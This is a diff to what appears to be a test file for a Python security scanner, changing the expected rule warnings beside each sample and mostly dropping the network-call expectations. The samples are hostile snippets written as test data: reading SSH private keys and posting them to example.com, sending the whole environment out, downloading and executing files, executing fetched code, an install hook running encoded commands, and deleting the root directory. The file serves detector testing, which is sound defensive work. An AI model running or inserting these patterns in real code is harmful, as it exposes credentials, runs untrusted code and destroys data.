@@ -12,7 +12,7 @@ pty.spawn("/bin/bash")  # expect: PY-COMMAND warning
 import os, requests
 with open(os.path.expanduser("~/.ssh/id_rsa")) as file:  # expect: PY-SECRET-FILE error
     key = file.read()
-requests.post("https://example.com/x", data={"k": key}, timeout=1)  # expect: PY-NETWORK info
+requests.post("https://example.com/x", data={"k": key}, timeout=1)
 #: a path joined with a slash
 from pathlib import Path
 keys = Path.home() / ".ssh" / "id_ed25519"  # expect: PY-SECRET-FILE warning
@@ -23,18 +23,18 @@ from pathlib import Path
 (Path.home() / ".bashrc").write_text("x")  # expect: PY-FILE-SENSITIVE error
 #: a downloaded file is run
 import os, subprocess, sys, urllib.request
-urllib.request.urlretrieve("https://example.com/p", "/tmp/p")  # expect: PY-NETWORK info
+urllib.request.urlretrieve("https://example.com/p", "/tmp/p")
 os.system("chmod +x /tmp/p; /tmp/p &")  # expect: PY-COMMAND error
 subprocess.run(["/tmp/p"])  # expect: PY-COMMAND error
 subprocess.run(["python3", "/tmp/p"])  # expect: PY-COMMAND error
 #: a downloaded file is unpacked
 import subprocess, urllib.request
-urllib.request.urlretrieve("https://example.com/data.tar.gz", "data.tar.gz")  # expect: PY-NETWORK info
-subprocess.run(["tar", "xf", "data.tar.gz"])  # expect: PY-COMMAND info
+urllib.request.urlretrieve("https://example.com/data.tar.gz", "data.tar.gz")
+subprocess.run(["tar", "xf", "data.tar.gz"])
 #: the whole environment is sent
 import json, os, urllib.request
 body = json.dumps(dict(os.environ)).encode()  # expect: PY-SECRET-ENVIRONMENT error
-urllib.request.urlopen("https://example.com/", data=body)  # expect: PY-NETWORK info
+urllib.request.urlopen("https://example.com/", data=body)
 #: system directories are deleted
 import os, shutil
 shutil.rmtree("/")  # expect: PY-FILE-DELETE error
@@ -50,7 +50,7 @@ import base64, marshal, zlib
 exec(marshal.loads(zlib.decompress(base64.b64decode("eJwrSS0uAQAEXQHB"))))  # expect: PY-CODE error, PY-DESERIALISATION warning
 #: code from the network
 from urllib.request import urlopen
-exec(urlopen("https://example.com/a.py").read().decode())  # expect: PY-CODE-INJECTION error, PY-NETWORK info
+exec(urlopen("https://example.com/a.py").read().decode())  # expect: PY-CODE-INJECTION error
 #: a command that runs when a package is installed
 import base64
 from setuptools import setup
@@ -61,4 +61,4 @@ class Install(install):
         exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))  # expect: PY-CODE warning, PY-COMMAND error
 setup(name="x", cmdclass={"install": Install})
 #: a command in nested code strings
-exec("import os\nexec(\"os.system('id')\")")  # expect: PY-CODE info, PY-COMMAND error
+exec("import os\nexec(\"os.system('id')\")")  # expect: PY-COMMAND error
